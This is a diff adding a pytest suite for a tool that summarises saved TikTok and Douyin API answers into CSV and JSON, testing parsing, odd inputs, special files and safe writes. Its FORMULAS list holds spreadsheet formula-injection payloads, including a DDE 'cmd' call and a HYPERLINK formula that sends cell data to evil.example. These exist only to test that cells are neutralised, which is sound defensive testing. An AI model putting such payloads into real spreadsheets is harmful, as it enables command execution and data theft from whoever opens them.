@@ -1,0 +1,904 @@
+import csv
+import errno
+import json
+import os
+import re
+import socket
+import stat
+import tempfile
+import time
+import tracemalloc
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tests.payloads import (
+    ANSWERED,
+    DOUYIN_ID,
+    ECHOED_KEY,
+    PHOTO_ID,
+    REQUEST_ID,
+    TIKTOK_ID,
+    Object,
+    address,
+    douyin_post,
+    envelope,
+    error_answer,
+    photo_post,
+    private_answer,
+    tiktok_post,
+    video,
+)
+from tikhub_mcp import summary
+from tikhub_mcp.answer import Json
+from tikhub_mcp.errors import DiskFull, InvalidInput, NotWritable
+from tikhub_mcp.summary import COLUMNS, CSV_NAME, JSON_NAME, LARGEST_FILE, Stopped, Summary, summarize
+
+CONTRACT = (
+    "source_file,parse_ok,error,request_id,api_code,api_message,router,share_url,cache_url,aweme_id,"
+    "desc,create_time_unix,aweme_type,content_desc,author_nickname,author_unique_id,author_sec_uid,"
+    "author_uid,author_follower_count,author_following_count,author_aweme_count,author_verification_type,"
+    "author_account_region,author_commerce_user_level,digg_count,comment_count,share_count,play_count,"
+    "collect_count,download_count,forward_count,whatsapp_share_count,video_duration_ms,video_width,"
+    "video_height,video_ratio,video_has_watermark,cover_url,play_url_sample,music_id,music_title,"
+    "music_author,music_is_original_sound,music_is_commerce_music,music_commercial_right_type,"
+    "music_user_count,is_ads,commerce_info_min,aigc_created_by_ai,aigc_label_type,hashtags"
+)
+OWN = ",as_of_unix,is_newest"
+PARTS = ["author", "statistics", "music", "aigc_info", "commerce_info", "video", "text_extra"]
+
+
+@pytest.fixture
+def raw(tmp_path: Path) -> Path:
+    folder = tmp_path / "raw"
+    folder.mkdir()
+    return folder
+
+
+def save(folder: Path, value: Json, name: str = "raw_1.json") -> Path:
+    path = folder / name
+    path.write_bytes(value if isinstance(value, bytes) else json.dumps(value).encode())
+    return path
+
+
+def run(source: Path) -> list[Object]:
+    """Summarise beside the source, and give back the rows as a strict reader sees them."""
+    out = source.parent / "out"
+    summarize(source, out)
+    rows: list[Object] = strict(out / JSON_NAME)["videos"]
+    return rows
+
+
+def row_of(folder: Path, value: Json) -> Object:
+    save(folder, value)
+    (row,) = run(folder)
+    return row
+
+
+def strict(path: Path) -> Json:
+    def refuse(constant: str) -> Json:
+        raise AssertionError(constant)
+
+    return json.loads(path.read_bytes(), parse_constant=refuse)
+
+
+def table(folder: Path) -> list[dict[str, str]]:
+    with (folder / CSV_NAME).open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file, strict=True))
+
+
+def left(folder: Path) -> list[str]:
+    return sorted(path.name for path in folder.iterdir())
+
+
+# What a row holds
+
+
+def test_the_columns_stand_in_the_order_of_the_contract_and_our_own_come_last() -> None:
+    assert ",".join(COLUMNS) == CONTRACT + OWN
+
+
+def test_a_tiktok_answer_gives_every_field_with_the_apis_own_value(raw: Path) -> None:
+    assert row_of(raw, envelope(tiktok_post())) == {
+        "source_file": "raw_1.json",
+        "parse_ok": True,
+        "error": None,
+        "request_id": REQUEST_ID,
+        "api_code": 200,
+        "api_message": "Request successful. This request will incur a charge.",
+        "router": "/api/v1/tiktok/app/v3/fetch_one_video_by_share_url",
+        "share_url": "https://vm.example/ABC/",
+        "cache_url": "https://cache.example/api/v1/cache/public/abc?sign=made-up",
+        "aweme_id": TIKTOK_ID,
+        "desc": "Paper boats on the canal #boats #canal",
+        "create_time_unix": 1_700_000_000,
+        "aweme_type": 0,
+        "content_desc": "",
+        "author_nickname": "Ada Paper",
+        "author_unique_id": "paper.boats",
+        "author_sec_uid": "MS4wLjABAAAAmade-up-tiktok",
+        "author_uid": "6900000000000000001",
+        "author_follower_count": 1200,
+        "author_following_count": 34,
+        "author_aweme_count": 56,
+        "author_verification_type": 1,
+        "author_account_region": "NL",
+        "author_commerce_user_level": 0,
+        "digg_count": 4321,
+        "comment_count": 87,
+        "share_count": 65,
+        "play_count": 98_765,
+        "collect_count": 43,
+        "download_count": 21,
+        "forward_count": 0,
+        "whatsapp_share_count": 9,
+        "video_duration_ms": 15_000,
+        "video_width": 576,
+        "video_height": 1024,
+        "video_ratio": "540p",
+        "video_has_watermark": True,
+        "cover_url": "https://img-a.example/cover.jpg",
+        "play_url_sample": address()["url_list"][0],
+        "music_id": "7200000000000000009",
+        "music_title": "Water Song",
+        "music_author": "The Locks",
+        "music_is_original_sound": False,
+        "music_is_commerce_music": True,
+        "music_commercial_right_type": 2,
+        "music_user_count": 77,
+        "is_ads": False,
+        "commerce_info_min": {"auction_ad_invited": False, "adv_promotable": True},
+        "aigc_created_by_ai": False,
+        "aigc_label_type": 0,
+        "hashtags": "boats|canal",
+        "as_of_unix": ANSWERED,
+        "is_newest": 1,
+    }
+
+
+def test_a_douyin_answer_gives_what_it_has_and_null_or_nothing_for_the_rest(raw: Path) -> None:
+    row = row_of(raw, envelope(douyin_post(), douyin=True))
+    known = {"aweme_id": DOUYIN_ID, "desc": "河上的纸船 #纸船", "hashtags": "纸船", "play_count": 0}
+    absent = {"content_desc": "", "aigc_created_by_ai": None, "aigc_label_type": None}
+    expected = known | absent | {"parse_ok": True, "author_unique_id": "", "commerce_info_min": {"_present": True}}
+    assert {key: row[key] for key in expected} == expected
+
+
+def test_a_photo_post_parses(raw: Path) -> None:
+    row = row_of(raw, envelope(photo_post()))
+    assert (row["parse_ok"], row["aweme_id"], row["aweme_type"], row["cover_url"]) == (True, PHOTO_ID, 150, "")
+
+
+@pytest.mark.parametrize(
+    "saved",
+    [
+        pytest.param({"aweme_details": [tiktok_post()], "status_code": 0}, id="TikTok's body"),
+        pytest.param({"aweme_detail": tiktok_post()}, id="Douyin's body"),
+        pytest.param(tiktok_post(), id="the bare post"),
+        pytest.param({"code": 200, "data": tiktok_post()}, id="the hybrid endpoint"),
+    ],
+)
+def test_what_other_tools_save_is_read_with_and_without_an_envelope(raw: Path, saved: Json) -> None:
+    row = row_of(raw, saved)
+    assert (row["parse_ok"], row["aweme_id"], row["digg_count"]) == (True, TIKTOK_ID, 4321)
+    assert row["share_url"] == tiktok_post()["share_url"]
+
+
+@pytest.mark.parametrize("params", [None, "x", {}, {"share_url": None}, {"share_url": ""}, {"share_url": 5}])
+@pytest.mark.parametrize(("own", "expected"), [("https://own.example/", "https://own.example/"), (7, ""), (None, "")])
+def test_the_link_is_the_one_asked_for_else_the_posts_own_else_empty(
+    raw: Path, params: Json, own: Json, expected: str
+) -> None:
+    assert row_of(raw, envelope(tiktok_post(share_url=own), params=params))["share_url"] == expected
+
+
+@pytest.mark.parametrize(
+    ("music", "expected"),
+    [
+        ({"id_str": "11", "mid": "22"}, "11"),
+        ({"id_str": "", "mid": "22"}, "22"),
+        ({"mid": 7_200_000_000_000_000_009}, "7200000000000000009"),
+        ({"id": 33}, None),
+        (None, None),
+    ],
+)
+def test_the_musics_id_is_text_whatever_field_has_it(raw: Path, music: Json, expected: str | None) -> None:
+    assert row_of(raw, envelope(tiktok_post(music=music)))["music_id"] == expected
+
+
+def test_the_musics_owner_comes_before_its_author(raw: Path) -> None:
+    row = row_of(raw, envelope(tiktok_post(music={"owner_nickname": "Owner", "author": "Author"})))
+    assert row["music_author"] == "Owner"
+
+
+def test_ids_that_came_as_numbers_become_text_and_other_large_numbers_stay_numbers(raw: Path) -> None:
+    author = {"uid": 2**60 + 1, "unique_id": 123, "sec_uid": 456}
+    row = row_of(raw, envelope(tiktok_post(aweme_id=2**61 + 1, author=author, statistics={"digg_count": 2**62 + 1})))
+    ids = row["aweme_id"], row["author_uid"], row["author_unique_id"], row["author_sec_uid"]
+    assert ids == (str(2**61 + 1), str(2**60 + 1), "123", "456")
+    assert row["digg_count"] == 2**62 + 1
+
+
+@pytest.mark.parametrize(
+    ("info", "expected"),
+    [
+        ({"ad_source": 3, "other": 1}, {"ad_source": 3}),
+        ({"auction_ad_invited": None}, {"auction_ad_invited": None}),
+        ({"other": 1}, {"_present": True}),
+        ({}, {"_present": True}),
+        (None, None),
+        ([1], None),
+    ],
+)
+def test_of_commerce_info_the_known_keys_are_kept_or_that_it_is_there(raw: Path, info: Json, expected: Json) -> None:
+    assert row_of(raw, envelope(tiktok_post(commerce_info=info)))["commerce_info_min"] == expected
+
+
+def test_the_text_of_a_post_is_cut_after_2000_characters(raw: Path) -> None:
+    assert row_of(raw, envelope(tiktok_post(desc="船" * 2001)))["desc"] == "船" * 2000
+
+
+def test_the_first_link_that_is_a_link_is_taken(raw: Path) -> None:
+    post = tiktok_post(video=video(play_addr=address(url_list=[None, "", 5, "https://b.example/"]), cover={}))
+    row = row_of(raw, envelope(post))
+    assert (row["play_url_sample"], row["cover_url"]) == ("https://b.example/", "")
+
+
+# Files without a post, and files that are none
+
+
+@pytest.mark.parametrize(
+    ("answer", "words"),
+    [
+        (private_answer(5), "is private"),
+        (private_answer("5"), "is private"),
+        (private_answer(8), "copyright"),
+        (private_answer(10), "some people only"),
+        (private_answer(99), "private, deleted or blocked"),
+        (private_answer({"a": 1}), "private, deleted or blocked"),
+        (private_answer(data={"filter_list": "x", "status_code": 2053}), "not there any more"),
+        (private_answer(data={"filter_list": [7], "statusCode": 10204}), "not there any more"),
+        (envelope(), "private, deleted or blocked"),
+        (envelope(data=None), "private, deleted or blocked"),
+        ({"aweme_details": [], "status_code": 0}, "private, deleted or blocked"),
+    ],
+)
+def test_an_answer_without_a_post_says_why_as_far_as_it_is_known(raw: Path, answer: Json, words: str) -> None:
+    row = row_of(raw, answer)
+    assert row["parse_ok"] is False
+    assert words in row["error"]
+
+
+def test_an_error_body_tells_its_code_its_message_and_never_its_headers(raw: Path) -> None:
+    row = row_of(raw, error_answer(402, "Insufficient\u202e balance,\nplease top up."))
+    assert row == dict.fromkeys(COLUMNS) | {
+        "source_file": "raw_1.json",
+        "parse_ok": False,
+        "error": "An error instead of a post, code 402: Insufficient balance, please top up.",
+        "request_id": REQUEST_ID,
+        "api_code": 402,
+        "router": "/api/v1/tiktok/app/v3/fetch_one_video_by_share_url",
+        "share_url": "https://vm.example/ABC/",
+    }
+    outputs = raw.parent / "out"
+    assert not any(ECHOED_KEY.encode() in path.read_bytes() for path in outputs.iterdir())
+
+
+@pytest.mark.parametrize(
+    ("answer", "words"),
+    [
+        (error_answer(400, message_zh="请求失败，请重试。"), "code 400"),
+        ({"detail": {"code": 400, "message_zh": "请求失败，请重试。"}}, "code 400: 请求失败，请重试。"),
+        ({"detail": [{"loc": ["query", "share_url"], "msg": "field required"}]}, "code unknown"),
+        ({"detail": "Not Found"}, "code unknown"),
+        (envelope(code=400, data=None, message=None, message_zh=None), "code 400: TikHub does not say"),
+        (envelope(code={"a": 1}, data=None), "private, deleted or blocked"),
+    ],
+)
+def test_errors_in_other_shapes_are_rows_too(raw: Path, answer: Json, words: str) -> None:
+    row = row_of(raw, answer)
+    assert row["parse_ok"] is False
+    assert words in row["error"]
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        (b"", "it is empty"),
+        (b" \n", "Expecting value"),
+        (json.dumps(envelope(tiktok_post())).encode()[:-20], "Unterminated string"),
+        (b"<html>error code: 1010</html>", "Expecting value"),
+        ('{"desc": "caf\xe9"}'.encode("latin-1"), "can't decode"),
+        (b'{"desc": "\xff\xfe\xfd"}', "can't decode"),
+        (b"[" * 200_000, "nested too deeply"),
+        (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "nested too deeply"),
+        (b"[]", "no post is in it"),
+        (b"null", "no post is in it"),
+        (b"5", "no post is in it"),
+        (b'"x"', "no post is in it"),
+        (b'{"name": "package"}', "no post is in it"),
+    ],
+)
+def test_a_file_that_is_no_answer_is_a_row_with_the_reason(raw: Path, content: bytes, words: str) -> None:
+    row = row_of(raw, content)
+    assert words in row["error"]
+    assert row == dict.fromkeys(COLUMNS) | {
+        "source_file": "raw_1.json",
+        "parse_ok": False,
+        "error": row["error"],
+        "share_url": "",
+    }
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
+def test_every_unicode_encoding_is_read_with_and_without_its_mark(raw: Path, encoding: str) -> None:
+    content = json.dumps(envelope(douyin_post(), douyin=True), ensure_ascii=False).encode(encoding)
+    assert row_of(raw, content)["desc"] == "河上的纸船 #纸船"
+
+
+BAD = {
+    "a list": b"[]",
+    "null": b"null",
+    "data is text": envelope(data="x"),
+    "details hold text": envelope(data={"aweme_details": ["x"]}),
+}
+ODD = {
+    "a number for the text": tiktok_post(desc=5),
+    "a list for the counts": tiktok_post(statistics=[1]),
+    "a number for a hashtag": tiktok_post(text_extra=[{"hashtag_name": 7}, 3]),
+}
+
+
+@pytest.mark.parametrize("bad", BAD.values(), ids=BAD)
+def test_one_bad_file_among_a_hundred_good_ones_is_one_row_and_hurts_no_other(raw: Path, bad: Json) -> None:
+    for number in range(100):
+        save(raw, envelope(tiktok_post(aweme_id=str(number))), f"raw_{number:03}.json")
+    save(raw, bad, "raw_050_bad.json")
+    done = summarize(raw, raw / "out")
+    rows = strict(done.json_path)["videos"]
+    assert (done.rows, done.parsed, done.broken) == (101, 100, 1)
+    assert [row["source_file"] for row in rows if not row["parse_ok"]] == ["raw_050_bad.json"]
+    assert [row["aweme_id"] for row in rows if row["parse_ok"]] == [str(number) for number in range(100)]
+
+
+@pytest.mark.parametrize("post", ODD.values(), ids=ODD)
+def test_a_value_of_the_wrong_type_counts_as_missing_and_the_rest_of_the_row_stands(raw: Path, post: Json) -> None:
+    row = row_of(raw, envelope(post))
+    assert (row["parse_ok"], row["aweme_id"], row["author_nickname"]) == (True, TIKTOK_ID, "Ada Paper")
+    assert row["desc"] == "" or row["digg_count"] is None or row["hashtags"] == ""
+
+
+@pytest.mark.parametrize("part", PARTS)
+@pytest.mark.parametrize("value", [None, 5, "x", [1], [[]], True, {"x": {}}], ids=str)
+def test_any_part_of_a_post_may_be_anything(raw: Path, part: str, value: Json) -> None:
+    row = row_of(raw, envelope(tiktok_post(**{part: value})))
+    assert (row["parse_ok"], row["aweme_id"]) == (True, TIKTOK_ID)
+
+
+@pytest.mark.parametrize(
+    ("number", "expected"),
+    [
+        ("NaN", None),
+        ("-Infinity", None),
+        ("1e999", None),
+        ("1e308", 1e308),
+        ("-0", 0),
+        ("-5", -5),
+        ("9" * 4000, int("9" * 4000)),
+        ("9" * 5000, "9" * 5000),
+        ("{}", None),
+    ],
+    ids=lambda value: str(value)[:9],
+)
+def test_numbers_come_through_as_served_and_what_is_none_becomes_null(raw: Path, number: str, expected: Json) -> None:
+    text = json.dumps(envelope(tiktok_post(statistics={"digg_count": "HERE"})))
+    assert row_of(raw, text.replace('"HERE"', number).encode())["digg_count"] == expected
+
+
+def test_what_cannot_be_written_is_replaced_and_nothing_else_is_changed(raw: Path) -> None:
+    text = "a\ud800b\u2028\u202e\x00\t\U0001f6a3 <b>"
+    row = row_of(raw, envelope(tiktok_post(desc=text)))
+    assert row["desc"] == text.replace("\ud800", "\ufffd")
+    assert table(raw.parent / "out")[0]["desc"] == row["desc"].replace("\0", "")
+
+
+# The CSV
+
+
+def test_the_header_is_complete_when_every_row_is_broken(raw: Path) -> None:
+    row_of(raw, b"")
+    first = (raw.parent / "out" / CSV_NAME).read_bytes().split(b"\r\n")[0]
+    assert first == b"\xef\xbb\xbf" + (CONTRACT + OWN).encode()
+
+
+def test_the_csv_has_missing_values_empty_nested_ones_as_json_and_truth_values_as_in_json(raw: Path) -> None:
+    row_of(raw, envelope(tiktok_post(music=None)))
+    (row,) = table(raw.parent / "out")
+    assert (row["music_id"], row["error"], row["parse_ok"], row["is_ads"]) == ("", "", "true", "false")
+    assert json.loads(row["commerce_info_min"]) == {"auction_ad_invited": False, "adv_promotable": True}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'a, "b", c',
+        "line\r\nline\rline\nline",
+        "a\u2028b\u2029c\x85d\x0bе",
+        "007",
+        "7300000000000000001",
+        "\U0001f6a3\u200d♀️ שלום مرحبا",
+        "長" * 40_000,
+        " blank around ",
+        "it's",
+        "'quoted'",
+        "a|b",
+    ],
+    ids=ascii,
+)
+def test_a_text_comes_back_from_the_csv_as_it_was(raw: Path, text: str) -> None:
+    row_of(raw, envelope(tiktok_post(content_desc=text)))
+    assert table(raw.parent / "out")[0]["content_desc"] == text
+
+
+FORMULAS = [f"{start}1+1" for start in "=+-@\t\r\n＝＋－＠"] + [
+    "  =1+1",
+    "\u3000=1+1",
+    "\xa0@SUM(1)",
+    '"=1+1',
+    "=cmd|' /C calc'!A0",
+    "cmd|' /C calc'!A0",
+    "\x00=1+1",
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+]
+
+
+def poisoned(text: str) -> Object:
+    """An answer with the text in every field that is text."""
+    keys = "uid unique_id sec_uid nickname account_region id_str title owner_nickname ratio"
+    part = dict.fromkeys(keys.split(), text) | {"play_addr": {"url_list": [text]}, "cover": {"url_list": [text]}}
+    texts = dict.fromkeys(("aweme_id", "desc", "content_desc"), text)
+    post = tiktok_post(**texts, author=part, music=part, video=part, text_extra=[{"hashtag_name": text}])
+    return envelope(post, request_id=text, message=text, router=text, cache_url=text, params={"share_url": text})
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
+def test_no_cell_of_the_csv_can_run_as_a_formula(raw: Path, formula: str) -> None:
+    row = row_of(raw, poisoned(formula))
+    (cells,) = table(raw.parent / "out")
+    shown = formula.replace("\0", "")
+    texts = [key for key, value in row.items() if value == formula]
+    assert len(texts) >= 18
+    assert {cells[key] for key in texts} == {f"'{shown}"}
+
+
+@pytest.mark.parametrize("formula", ["=1+1", "-2", "@x", "＝1", "+"])
+def test_no_name_of_a_file_and_no_words_of_an_error_can_run_either(raw: Path, formula: str) -> None:
+    save(raw, error_answer(formula, formula), f"{formula}.json")
+    run(raw)
+    (cells,) = table(raw.parent / "out")
+    assert cells["source_file"] == f"'{formula}.json"
+    assert cells["api_code"] == f"'{formula}"
+    assert cells["error"].startswith("An error")
+
+
+def test_negative_numbers_stay_numbers_and_negative_texts_do_not(raw: Path) -> None:
+    row_of(raw, envelope(tiktok_post(statistics={"digg_count": -5, "play_count": -1.5, "share_count": "-5"})))
+    (cells,) = table(raw.parent / "out")
+    assert (cells["digg_count"], cells["play_count"], cells["share_count"]) == ("-5", "-1.5", "'-5")
+
+
+# Which files are read
+
+
+def test_files_come_in_order_of_name_with_any_case_of_the_suffix_and_nothing_else_comes(raw: Path) -> None:
+    for name in ("b.JSON", "a.json", "C.Json", "ü.json", "\U0001f6a3.json", "=1.json"):
+        save(raw, envelope(tiktok_post()), name)
+    for name in (".hidden.json", "a.json.part", "a.txt", "json", "a.jsonl"):
+        save(raw, envelope(tiktok_post()), name)
+    (raw / "deeper").mkdir()
+    save(raw / "deeper", envelope(tiktok_post()))
+    assert [row["source_file"] for row in run(raw)] == [
+        "=1.json",
+        "C.Json",
+        "a.json",
+        "b.JSON",
+        "ü.json",
+        "\U0001f6a3.json",
+    ]
+
+
+@pytest.mark.parametrize("name", ["raw[1]", "*", "?", "\U0001f6a3", "trailing ", "-rf", "a\nb"])
+def test_a_folder_may_have_any_name(tmp_path: Path, name: str) -> None:
+    (tmp_path / name).mkdir()
+    assert row_of(tmp_path / name, envelope(tiktok_post()))["parse_ok"] is True
+
+
+def test_a_name_that_is_not_unicode_is_shown_as_far_as_it_can_be(raw: Path) -> None:
+    save(raw, envelope(tiktok_post()), os.fsdecode(b"\xff.json"))
+    assert [row["source_file"] for row in run(raw)] == ["\ufffd.json"]
+    assert table(raw.parent / "out")[0]["source_file"] == "\ufffd.json"
+
+
+def special_files(folder: Path) -> Iterator[Path]:
+    target = save(folder.parent, envelope(tiktok_post()), "outside.json")
+    (folder / "folder.json").mkdir()
+    (folder / "link.json").symlink_to(target)
+    (folder / "dangling.json").symlink_to(folder / "nowhere")
+    (folder / "zero.json").symlink_to("/dev/zero")
+    os.mkfifo(folder / "pipe.json")
+    with socket.socket(socket.AF_UNIX) as listener:
+        listener.bind(str(folder / "socket.json"))
+    yield from sorted(folder.iterdir())
+
+
+def test_links_and_special_files_in_a_folder_are_neither_opened_nor_waited_for(raw: Path) -> None:
+    assert len(list(special_files(raw))) == 6
+    save(raw, envelope(tiktok_post()))
+    start = time.monotonic()
+    assert [row["source_file"] for row in run(raw)] == ["raw_1.json"]
+    assert time.monotonic() - start < 1
+
+
+def test_links_and_special_files_are_refused_as_the_one_file_too(raw: Path) -> None:
+    for path in special_files(raw):
+        with pytest.raises(InvalidInput):
+            summarize(path, raw.parent / "out")
+    with pytest.raises(InvalidInput, match="Nothing to read"):
+        summarize(Path("/dev/zero"), raw.parent / "out")
+    assert not (raw.parent / "out").exists()
+
+
+def test_one_file_of_any_name_can_be_read_alone(raw: Path) -> None:
+    save(raw, envelope(tiktok_post()))
+    done = summarize(save(raw, envelope(tiktok_post()), "answer.txt"), raw / "out")
+    document = strict(done.json_path)
+    assert (document["generated_from"], document["video_count"]) == (str(raw / "answer.txt"), 1)
+    assert document["videos"][0]["source_file"] == "answer.txt"
+
+
+@pytest.mark.parametrize("source", ["", "nowhere", "a/b"])
+def test_nothing_to_read_is_invalid_input_and_makes_no_folder(raw: Path, source: str) -> None:
+    with pytest.raises(InvalidInput):
+        summarize(raw / source, raw.parent / "out")
+    assert not (raw.parent / "out").exists()
+
+
+def test_a_folder_that_cannot_be_listed_is_invalid_input(raw: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def refuse(_path: Path) -> None:
+        raise PermissionError(errno.EACCES, "Permission denied")
+
+    monkeypatch.setattr(os, "scandir", refuse)
+    with pytest.raises(InvalidInput, match="Permission denied"):
+        summarize(raw, raw.parent / "out")
+
+
+def test_a_summary_of_our_own_is_never_read_so_that_a_second_run_gives_the_same(raw: Path) -> None:
+    save(raw, envelope(tiktok_post()), "a.json")
+    save(raw, b"", "z.json")
+    first = summarize(raw, raw)
+    before = first.json_path.read_bytes(), first.csv_path.read_bytes()
+    assert summarize(raw, raw) == first == Summary(raw / CSV_NAME, raw / JSON_NAME, raw, 2, 1, 1)
+    assert (first.json_path.read_bytes(), first.csv_path.read_bytes()) == before
+    with pytest.raises(InvalidInput):
+        summarize(first.json_path, raw / "out")
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [(JSON_NAME, envelope(tiktok_post())), ("copy.json", {"generated_from": "", "video_count": 0, "videos": []})],
+)
+def test_only_the_name_and_the_content_together_make_a_summary(raw: Path, name: str, content: Json) -> None:
+    save(raw, content, name)
+    assert [row["source_file"] for row in run(raw)] == [name]
+
+
+def test_a_summary_that_cannot_be_opened_is_a_row(raw: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    save(raw, envelope(tiktok_post()), JSON_NAME)
+
+    def refuse(_path: str, _flags: int) -> int:
+        raise PermissionError(errno.EACCES, "Permission denied")
+
+    monkeypatch.setattr(summary, "_careful", refuse)
+    assert [row["error"] for row in run(raw)] == ["The file cannot be read: Permission denied."]
+
+
+def test_a_file_over_the_limit_is_a_row_and_is_not_read(raw: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    with (raw / "large.json").open("wb") as file:
+        file.truncate(LARGEST_FILE + 1)
+    monkeypatch.setattr(summary, "parse", pytest.fail)
+    assert [row["error"] for row in run(raw)] == ["The file holds no readable JSON: it is larger than 67108864 bytes."]
+
+
+# What happens meanwhile
+
+
+def exchange(path: Path, how: Callable[[Path], None]) -> Callable[[], bool]:
+    """A `stopped` that, when first asked, puts something else in the file's place, and never stops."""
+    waiting = [how]
+
+    def stopped() -> bool:
+        if waiting:
+            path.unlink()
+            waiting.pop()(path)
+        return False
+
+    return stopped
+
+
+@pytest.mark.parametrize(
+    ("how", "words"),
+    [
+        pytest.param(lambda _path: None, "No such file", id="gone"),
+        pytest.param(lambda path: path.symlink_to("/dev/zero"), "symbolic link", id="link"),
+        pytest.param(os.mkfifo, "no regular file", id="pipe"),
+        pytest.param(Path.mkdir, "Is a directory", id="folder"),
+    ],
+)
+def test_a_file_that_is_exchanged_after_it_was_listed_is_a_row(
+    raw: Path, how: Callable[[Path], None], words: str
+) -> None:
+    path = save(raw, envelope(tiktok_post()), "b.json")
+    save(raw, envelope(tiktok_post()), "a.json")
+    done = summarize(raw, raw / "out", stopped=exchange(path, how))
+    rows = strict(done.json_path)["videos"]
+    assert [row["parse_ok"] for row in rows] == [True, False]
+    assert words in rows[1]["error"]
+
+
+def test_a_file_that_comes_after_the_listing_is_not_read(raw: Path) -> None:
+    path = save(raw, envelope(tiktok_post()))
+    new = raw / "new.json"
+    done = summarize(raw, raw / "out", stopped=exchange(path, lambda _gone: new.touch()))
+    assert (done.rows, done.broken, new.exists()) == (1, 1, True)
+
+
+@pytest.mark.parametrize("change", [lambda text: text + b" ", lambda text: text[:-1], lambda text: text[:-1] + b"\n"])
+def test_a_file_that_changes_while_it_is_read_is_a_row(
+    raw: Path, monkeypatch: pytest.MonkeyPatch, change: Callable[[bytes], bytes]
+) -> None:
+    path = save(raw, envelope(tiktok_post()))
+    os.utime(path, (1, 1))
+    fstat = os.fstat
+
+    def fstat_then_change(descriptor: int) -> os.stat_result:
+        status = fstat(descriptor)
+        path.write_bytes(change(path.read_bytes()))
+        return status
+
+    monkeypatch.setattr(os, "fstat", fstat_then_change)
+    assert "changed while it was read" in run(raw)[0]["error"]
+
+
+def test_progress_is_told_after_each_file(raw: Path) -> None:
+    for name in "abc":
+        save(raw, b"", f"{name}.json")
+    seen: list[tuple[int, int]] = []
+    summarize(raw, raw / "out", progress=lambda done, total: seen.append((done, total)))
+    assert seen == [(1, 3), (2, 3), (3, 3)]
+
+
+@pytest.mark.parametrize("asked", range(4))
+def test_whoever_stops_it_finds_everything_as_it_was(raw: Path, asked: int) -> None:
+    for name in "abc":
+        save(raw, envelope(tiktok_post()), f"{name}.json")
+    out = raw / "out"
+    out.mkdir()
+    (out / CSV_NAME).write_text("old")
+    answers = iter([False] * asked + [True])
+    with pytest.raises(Stopped):
+        summarize(raw, out, stopped=lambda: next(answers))
+    assert left(out) == [CSV_NAME]
+    assert (out / CSV_NAME).read_text() == "old"
+
+
+# The outputs
+
+
+def test_both_outputs_are_for_their_owner_alone(raw: Path) -> None:
+    save(raw, envelope(tiktok_post()))
+    done = summarize(raw, raw / "new" / "out")
+    assert left(raw / "new" / "out") == [CSV_NAME, JSON_NAME]
+    assert [stat.S_IMODE(path.stat().st_mode) for path in (done.csv_path, done.json_path)] == [0o600, 0o600]
+
+
+def test_the_json_is_for_people_too(raw: Path) -> None:
+    save(raw, envelope(douyin_post(), douyin=True))
+    text = summarize(raw, raw / "out").json_path.read_text(encoding="utf-8")
+    assert text.startswith(f'{{\n  "generated_from": "{raw}",\n  "video_count": 1,\n  "videos": [\n    {{\n')
+    assert '\n      "desc": "河上的纸船 #纸船",\n' in text
+    assert text.endswith('\n      "is_newest": 1\n    }\n  ]\n}\n')
+
+
+@pytest.mark.parametrize("name", [CSV_NAME, JSON_NAME])
+@pytest.mark.parametrize("make", [Path.mkdir, os.mkfifo], ids=["folder", "pipe"])
+def test_what_is_no_file_is_not_replaced(raw: Path, name: str, make: Callable[[Path], None]) -> None:
+    save(raw, envelope(tiktok_post()))
+    out = raw / "out"
+    out.mkdir()
+    make(out / name)
+    with pytest.raises(NotWritable):
+        summarize(raw, out)
+    assert left(out) == [name]
+
+
+def test_a_link_in_the_outputs_place_is_replaced_and_its_target_is_not_touched(raw: Path) -> None:
+    save(raw, envelope(tiktok_post()))
+    out = raw / "out"
+    out.mkdir()
+    victim = save(raw.parent, b"victim")
+    (out / JSON_NAME).symlink_to(victim)
+    assert not summarize(raw, out).json_path.is_symlink()
+    assert victim.read_bytes() == b"victim"
+
+
+def test_a_file_in_the_folders_place_is_not_writable(raw: Path) -> None:
+    with pytest.raises(NotWritable):
+        summarize(save(raw, envelope(tiktok_post())), save(raw, b"", "out"))
+
+
+def fail_once(call: str, nth: int, number: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Let the nth of such calls to the system fail."""
+    owner: Json = Path if call == "replace" else os
+    real, calls = getattr(owner, call), [0]
+
+    def wrapper(*arguments: Json, **named: Json) -> Json:
+        calls[0] += 1
+        if calls[0] == nth:
+            raise OSError(number, os.strerror(number))
+        return real(*arguments, **named)
+
+    monkeypatch.setattr(owner, call, wrapper)
+
+
+@pytest.mark.parametrize("call", ["open", "fstat", "fsync", "replace", "lstat", "scandir"])
+@pytest.mark.parametrize("nth", range(1, 7))
+@pytest.mark.parametrize("number", [errno.ENOSPC, errno.EIO, errno.EMFILE])
+def test_whatever_call_fails_both_outputs_are_whole_and_no_part_is_left(
+    raw: Path, monkeypatch: pytest.MonkeyPatch, call: str, nth: int, number: int
+) -> None:
+    out = raw / "out"
+    save(raw, envelope(tiktok_post()))
+    summarize(raw, out)
+    save(raw, b"", "raw_2.json")
+    with monkeypatch.context() as patch, suppress(DiskFull if number == errno.ENOSPC else NotWritable, InvalidInput):
+        fail_once(call, nth, number, patch)
+        summarize(raw, out)
+    assert left(out) == [CSV_NAME, JSON_NAME]
+    assert len(strict(out / JSON_NAME)["videos"]) in (1, 2)
+    assert len(table(out)) in (1, 2)
+
+
+class Full:
+    """A file on a disk that is full after so many writes."""
+
+    def __init__(self, file: Json, writes: int) -> None:
+        self.file, self.writes = file, writes
+
+    def __getattr__(self, name: str) -> Json:
+        return getattr(self.file, name)
+
+    def write(self, content: bytes) -> Json:
+        self.writes -= 1
+        if self.writes < 0:
+            raise OSError(errno.ENOSPC, "No space left on device")
+        return self.file.write(content[:1000])  # a short write is no failure
+
+
+@pytest.mark.parametrize("writes", [0, 1, 3])
